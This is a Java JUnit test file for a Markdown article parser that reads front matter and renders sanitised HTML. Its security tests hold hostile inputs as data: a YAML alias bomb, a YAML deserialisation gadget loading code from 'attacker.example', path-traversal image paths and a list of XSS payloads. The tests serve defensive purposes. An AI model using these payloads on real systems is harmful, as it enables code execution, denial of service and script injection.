package dev.tarjim.article;

import static dev.tarjim.article.Uploads.parse;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tarjim.article.Block.Figure;
import dev.tarjim.article.Block.Heading;
import dev.tarjim.article.Block.ListBlock;
import dev.tarjim.article.Block.Paragraph;
import dev.tarjim.article.Block.Preformatted;
import dev.tarjim.article.Block.Quote;
import dev.tarjim.article.Block.Table;
import dev.tarjim.article.Inline.Code;
import dev.tarjim.article.Inline.Emphasis;
import dev.tarjim.article.Inline.LineBreak;
import dev.tarjim.article.Inline.Link;
import dev.tarjim.article.Inline.Strong;
import dev.tarjim.article.Inline.Text;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownParsingTest {

    @Test
    void parse_frontMatter_readsEveryField() throws Exception {
        String md = """
                ---
                title: "Council approves cycling lanes"
                lang: Arabic
                author: Jane Porter
                tags: [transport, council]
                published: 2024-03-14T09:30:00+02:00
                slug: council-cycling-lanes
                targets: en, ES, fra
                summary: The council voted for protected lanes.
                ---
                # Council approves cycling lanes

                The city council voted on **Tuesday** to build a network of
                protected [cycling lanes](https://example.org).

                ## Shops worried

                - Parking spaces will go.
                - Deliveries move to the mornings.

                ```
                code is not translated
                ```

                > "We are not against bikes," said one shop owner.
                """;

        ParsedArticle article = parse(md, "incoming/cycling.md");

        assertThat(article.format()).isEqualTo("markdown");
        assertThat(article.title()).isEqualTo("Council approves cycling lanes");
        assertThat(article.declaredLanguage()).isEqualTo("ar");
        assertThat(article.author()).isEqualTo("Jane Porter");
        assertThat(article.tags()).containsExactly("transport", "council");
        assertThat(article.published()).isEqualTo(Instant.parse("2024-03-14T07:30:00Z"));
        assertThat(article.slug()).isEqualTo("council-cycling-lanes");
        assertThat(article.targets()).containsExactly("en", "es", "fr");
        assertThat(article.summary()).isEqualTo("The council voted for protected lanes.");
        assertThat(article.blocks()).containsExactly(
                new Paragraph(List.of(new Text("The city council voted on "), new Strong(List.of(new Text("Tuesday"))),
                        new Text(" to build a network of protected "),
                        new Link("https://example.org", null, List.of(new Text("cycling lanes"))), new Text("."))),
                new Heading(2, List.of(new Text("Shops worried"))),
                new ListBlock(false, List.of(List.of(new Text("Parking spaces will go.")),
                        List.of(new Text("Deliveries move to the mornings.")))),
                new Preformatted("code is not translated"),
                new Quote(List.of(List.of(new Text("\"We are not against bikes,\" said one shop owner."))), List.of()));
    }

    @Test
    void parse_commaSeparatedTagsAndDateOnly() throws Exception {
        String md = "---\ntitle: T\ntags: economy, banks ,  rates\npublished: 2024-03-01\n---\nBody paragraph.\n";

        ParsedArticle article = parse(md, "incoming/x.md");

        assertThat(article.tags()).containsExactly("economy", "banks", "rates");
        assertThat(article.published()).isEqualTo(Instant.parse("2024-03-01T00:00:00Z"));
        assertThat(article.declaredLanguage()).isNull();
        assertThat(article.targets()).isNull();
    }

    @Test
    void parse_withoutFrontMatterTitle_usesFirstHeading() throws Exception {
        String md = "---\nlang: en\n---\nIntro line before the heading.\n\n# The real headline\n\nMore text.\n";

        ParsedArticle article = parse(md, "incoming/x.md");

        assertThat(article.title()).isEqualTo("The real headline");
        assertThat(article.paragraphs()).containsExactly("Intro line before the heading.", "More text.");
    }

    @Test
    void parse_markdownWithoutFrontMatter_detectedByHeading() throws Exception {
        ParsedArticle article = parse("# Headline\n\nFirst *paragraph*.\n", "incoming/upload");

        assertThat(article.format()).isEqualTo("markdown");
        assertThat(article.title()).isEqualTo("Headline");
        assertThat(article.paragraphs()).containsExactly("First paragraph.");
    }

    @Test
    void parse_billionLaughs_isRefusedCleanly() {
        String md = """
                ---
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                title: lol
                ---
                Body.
                """;

        assertThatThrownBy(() -> parse(md, "incoming/lol.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageStartingWith("The front matter is not valid YAML")
                .hasMessageContaining("aliases");
    }

    @Test
    void parse_customYamlTag_isRefused() {
        String md = "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://attacker.example/\"]]]]\n---\nBody.\n";

        assertThatThrownBy(() -> parse(md, "incoming/tag.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageStartingWith("The front matter is not valid YAML");
    }

    @Test
    void parse_invalidDeclaredLanguage_isRefusedWithTheValue() {
        assertThatThrownBy(() -> parse("---\ntitle: T\nlang: klingonish\n---\nBody.\n", "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessage("lang: 'klingonish' is not a language; use a BCP 47 code such as ar, en, zh or es");
    }

    @Test
    void parse_invalidPublishedDate_isRefused() {
        assertThatThrownBy(() -> parse("---\ntitle: T\npublished: next Tuesday\n---\nBody.\n", "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageContaining("published: 'next Tuesday' is not a date");
    }

    @Test
    void parse_unclosedFrontMatter_isRefused() {
        assertThatThrownBy(() -> parse("---\ntitle: T\n\nBody.\n", "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageContaining("never closed");
    }

    @Test
    void parse_frontMatterOverTheLimit_isRefusedWithTheLimit() {
        String md = "---\ntitle: T\nsummary: " + "x".repeat(70_000) + "\n---\nBody.\n";

        assertThatThrownBy(() -> parse(md, "incoming/x.md"))
                .isInstanceOf(UnsupportedUploadException.class)
                .hasMessageContaining("the limit is 65536");
    }

    @Test
    void parse_richArticle_keepsEveryKindOfBlock() throws Exception {
        String md = """
                ---
                title: Harbour reopens
                canonical: https://news.example/2024/harbour
                ---
                # Harbour reopens

                The harbour *reopened* on **Monday**, see [the notice](/notices/7 "Notice 7") and `port-7`.\\
                Second line.

                # A body heading

                ### Timeline

                1. Storm
                2. Repairs with [crews](https://crews.example/)

                > The quay is safer than before.
                > — Harbour master Lena Ortiz

                ![Cranes at dawn](img/cranes.jpg "Cranes back at work")

                | Ship | Berth |
                | --- | --- |
                | *Aurora* | 3 |

                More at https://port.example/status now.
                """;

        ParsedArticle article = parse(md, "incoming/harbour.md");

        assertThat(article.title()).isEqualTo("Harbour reopens");
        assertThat(article.canonicalUrl()).isEqualTo("https://news.example/2024/harbour");
        assertThat(article.warnings()).isEmpty();
        assertThat(article.blocks()).containsExactly(
                new Paragraph(List.of(new Text("The harbour "), new Emphasis(List.of(new Text("reopened"))),
                        new Text(" on "), new Strong(List.of(new Text("Monday"))), new Text(", see "),
                        new Link("https://news.example/notices/7", "Notice 7", List.of(new Text("the notice"))),
                        new Text(" and "), new Code("port-7"), new Text("."), new LineBreak(),
                        new Text("Second line."))),
                new Heading(2, List.of(new Text("A body heading"))),
                new Heading(3, List.of(new Text("Timeline"))),
                new ListBlock(true, List.of(List.of(new Text("Storm")), List.of(new Text("Repairs with "),
                        new Link("https://crews.example/", null, List.of(new Text("crews")))))),
                new Quote(List.of(List.of(new Text("The quay is safer than before."))),
                        List.of(new Text("Harbour master Lena Ortiz"))),
                new Figure("https://news.example/2024/img/cranes.jpg", "Cranes at dawn",
                        List.of(new Text("Cranes back at work")), "", null, null),
                new Table(true, List.of(List.of(List.of(new Text("Ship")), List.of(new Text("Berth"))),
                        List.of(List.of(new Emphasis(List.of(new Text("Aurora")))), List.of(new Text("3"))))),
                new Paragraph(List.of(new Text("More at "), new Link("https://port.example/status", null,
                        List.of(new Text("https://port.example/status"))), new Text(" now."))));
    }

    @Test
    void parse_quoteWithDoubleHyphenAttributionParagraph_takesItAsAttribution() throws Exception {
        String md = "---\ntitle: T\n---\n> First said.\n>\n> Second said.\n>\n> -- A. Speaker\n";

        ParsedArticle article = parse(md, "incoming/q.md");

        assertThat(article.blocks()).containsExactly(new Quote(
                List.of(List.of(new Text("First said.")), List.of(new Text("Second said."))),
                List.of(new Text("A. Speaker"))));
    }

    @Test
    void parse_imageInsideText_isDropped_relativeLinksWithoutCanonicalAreDropped_relativeImagesKeptForTheIngest()
            throws Exception {
        String md = "---\ntitle: T\n---\nSee ![chart](https://x.example/c.png) and [page](/p).\n\n"
                + "![alone](rel/a.jpg)\n";

        ParsedArticle article = parse(md, "incoming/i.md");

        // The relative image names an upload beside the article: the ingest resolves it (or leaves it out).
        assertThat(article.blocks()).containsExactly(
                new Paragraph(List.of(new Text("See and page."))),
                new Figure("upload:rel/a.jpg", "alone", List.of(), "", null, null));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../secret.png", "/etc/passwd.png", "//evil.example/x.png", "a/./b.png", "x.png?y=1",
        "x.png#f", "a\\b.png", "a/../../b.png", "%2e%2e/b.png"})
    void parse_relativeImageLeavingItsFolder_isDropped(String src) throws Exception {
        ParsedArticle article = parse("---\ntitle: T\n---\nText.\n\n![x](" + src + " \"Cap\")\n", "incoming/r.md");

        assertThat(article.blocks()).containsExactly(Paragraph.of("Text."), Paragraph.of("Cap"));
    }

    @Test
    void render_unresolvedUploadImage_showsItsCaptionButNoImage() throws Exception {
        ParsedArticle article = parse("---\ntitle: T\n---\nText.\n\n![x](photo.png \"Cap\")\n", "incoming/r.md");

        org.jsoup.nodes.Document rendered = org.jsoup.Jsoup.parseBodyFragment(BodyHtml.render(article.blocks()));

        assertThat(rendered.select("img")).isEmpty();
        assertThat(rendered.select("p").eachText()).containsExactly("Text.", "Cap");
    }

    @Test
    void parse_frontMatterLeadImageUpdatedAndStandfirst() throws Exception {
        String md = """
                ---
                title: T
                standfirst: The short version.
                updated: 2024-03-02T08:00:00Z
                canonical_url: https://news.example/a/
                image: lead.jpg
                image_alt: A harbour
                image_caption: The harbour at dawn
                image_credit: "Photo: Lena Ortiz"
                ---
                Body.
                """;

        ParsedArticle article = parse(md, "incoming/x.md");

        assertThat(article.summary()).isEqualTo("The short version.");
        assertThat(article.updated()).isEqualTo(Instant.parse("2024-03-02T08:00:00Z"));
        assertThat(article.canonicalUrl()).isEqualTo("https://news.example/a/");
        assertThat(article.leadImage()).isEqualTo(new Figure("https://news.example/a/lead.jpg", "A harbour",
                List.of(new Text("The harbour at dawn")), "Photo: Lena Ortiz", null, null));
    }

    @Test
    void parse_hostileMarkdown_keepsNothingActive() throws Exception {
        String md = """
                ---
                title: T
                canonical: javascript:alert(1)//
                image: data:image/png;base64,AAAA
                ---
                A [click](javascript:alert(1)) and [tab](java&#9;script:alert(2)) and <a href="vbscript:x">v</a>.

                ![x](data:image/svg+xml;base64,PHN2Zz4= "caption kept")

                <script>alert(3)</script>

                <img src="https://x.example/i.png" onerror="alert(4)">

                Text <img src=x onerror=alert(5)> and <b onclick="alert(6)">bold</b> <span style="x">s</span>.

                <iframe src="https://evil.example"></iframe><svg><a href="javascript:alert(7)">s</a></svg>
                """;

        ParsedArticle article = parse(md, "incoming/evil.md");
        String html = BodyHtml.render(article.blocks());

        assertThat(article.canonicalUrl()).isNull();
        assertThat(article.leadImage()).isNull();
        assertThat(html).doesNotContainIgnoringCase("javascript").doesNotContainIgnoringCase("vbscript")
                .doesNotContain("data:").doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("onerror")
                .doesNotContainIgnoringCase("onclick").doesNotContainIgnoringCase("style")
                .doesNotContainIgnoringCase("iframe").doesNotContainIgnoringCase("svg").doesNotContain("alert");
        assertThat(article.blocks()).first().isEqualTo(new Paragraph(List.of(new Text("A click and tab and v."))));
        assertThat(article.blocks()).contains(new Paragraph(List.of(new Text("caption kept"))),
                new Figure("https://x.example/i.png", "", List.of(), "", null, null),
                new Paragraph(List.of(new Text("Text and "), new Strong(List.of(new Text("bold"))),
                        new Text(" s."))));
    }

    @Test
    void parse_noTitleAnywhere_takesTheFirstSentence_andWarns() throws Exception {
        String md = "The council approved the budget on Tuesday after a long debate. Critics said it was late.\n\n"
                + "Second paragraph.\n";

        ParsedArticle article = parse(md, "incoming/untitled.md");

        assertThat(article.title()).isEqualTo("The council approved the budget on Tuesday after a long debate");
        assertThat(article.blocks()).hasSize(2);
        assertThat(article.warnings()).singleElement().asString().startsWith("No title found")
                .contains(article.title());
    }

    @Test
    void parse_noTitleAndLongFirstSentence_cutsAtAWordBoundary() throws Exception {
        String sentence = "word ".repeat(40) + "end.";

        ParsedArticle article = parse("---\nlang: en\n---\n" + sentence + "\n", "incoming/long.md");

        assertThat(article.title()).hasSizeLessThanOrEqualTo(120).endsWith("word…");
        assertThat(article.warnings()).hasSize(1);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x]\n\n[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<div onmouseover=\"alert(1)\">x</div>",
        "x <iframe srcdoc=\"<script>alert(1)</script>\"></iframe> y",
        "<details open ontoggle=alert(1)>x</details>"
    })
    void parse_hostileSample_rendersNothingActive(String hostile) throws Exception {
        ParsedArticle article = parse("---\ntitle: T\n---\nSafe paragraph.\n\n" + hostile + "\n", "incoming/h.md");
        org.jsoup.nodes.Document rendered = org.jsoup.Jsoup.parseBodyFragment(BodyHtml.render(article.blocks()));

        for (org.jsoup.nodes.Element e : rendered.body().getAllElements()) {
            assertThat(e.normalName()).as("element").isIn("body", "p", "h2", "h3", "h4", "ul", "ol", "li",
                    "blockquote", "footer", "cite", "figure", "img", "figcaption", "pre", "table", "thead", "tbody",
                    "tr", "th", "td", "a", "em", "strong", "code", "br", "small");
            for (org.jsoup.nodes.Attribute a : e.attributes()) {
                assertThat(a.getKey()).as("attribute").isIn("href", "title", "src", "alt", "loading", "width",
                        "height", "class", "dir", "lang");
                if (a.getKey().equals("href") || a.getKey().equals("src")) {
                    assertThat(a.getValue()).matches("(?i)(https?|mailto):.*");
                }
            }
        }
        assertThat(article.blocks()).first().isEqualTo(Paragraph.of("Safe paragraph."));
    }
}
